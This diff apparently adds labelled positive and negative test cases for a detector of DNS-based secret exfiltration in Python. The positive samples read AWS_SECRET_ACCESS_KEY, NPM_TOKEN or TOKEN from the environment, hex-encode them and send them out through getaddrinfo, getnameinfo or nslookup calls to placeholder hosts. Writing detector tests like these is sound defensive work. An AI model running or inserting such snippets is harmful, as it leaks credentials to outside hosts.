@@ -17,3 +17,25 @@ subprocess.run(["nslookup", os.environ["TOKEN"] + ".x.example"])
 import os, subprocess
 subprocess.run(["nslookup", "example.org"])
 print(os.environ.get("PORT", "80"))
+#@ pos a secret's hex through a name into the event loop's getaddrinfo
+import asyncio, os
+async def go():
+    token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
+    label = token.encode().hex()
+    await asyncio.get_running_loop().getaddrinfo(f"{label}.t.example", 443)
+asyncio.run(go())
+#@ pos a token joined into a name for getnameinfo
+import os, socket
+key = os.getenv("NPM_TOKEN") or ""
+name = ".".join([key.encode().hex()[:40], "x", "example"])
+socket.getnameinfo((name, 0), 0)
+#@ neg a host read whole from the environment
+import os, socket
+host = os.getenv("DB_HOST", "localhost")
+print(socket.getaddrinfo(host, 5432))
+#@ neg a region from the environment in the name looked up
+import asyncio, os
+async def go():
+    region = os.environ.get("AWS_REGION", "us-east-1")
+    await asyncio.get_running_loop().getaddrinfo(f"sts.{region}.amazonaws.com", 443)
+asyncio.run(go())
